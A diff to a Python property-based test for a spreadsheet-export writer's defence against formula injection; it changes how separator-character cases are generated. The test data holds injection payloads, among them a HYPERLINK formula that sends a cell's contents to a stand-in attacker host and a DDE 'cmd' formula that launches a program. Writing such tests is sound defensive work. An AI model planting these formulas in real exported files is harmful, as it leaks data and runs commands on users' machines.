@@ -32,9 +32,11 @@ PAYLOADS = ("=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"http://evil.examp
 # Those LibreOffice makes formulas of, written as they are (Excel also takes "+1+1", "-1+1" and "@SUM(…)").
 FORMULA = ("=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=cmd|' /C calc'!A0", "=-2+3")
 
-# "\x1f" is what write_csv joins a row's cells with to look at them at once: a cell holding it is still written.
-starts = st.sampled_from([*FORMULA_STARTS, "'", '"', " ", "\n", ",", "=HYPERLINK(", "=1+", "\x1f", "\x1f="])
-any_text = st.one_of(st.text(), st.builds(str.__add__, starts, st.text()))
+starts = st.sampled_from([*FORMULA_STARTS, "'", '"', " ", "\n", ",", "=HYPERLINK(", "=1+"])
+# "\x1f" is what write_csv joins a row's cells with to look at them at once: a cell holding it is still written (an
+# .xlsx cannot hold it, so only the writer alone is given it).
+any_text = st.one_of(st.text(), st.builds(str.__add__, st.one_of(starts, st.sampled_from(["\x1f", "\x1f="])),
+                                          st.text()))
 
 
 def read_back(text: str) -> list[list[str]]:
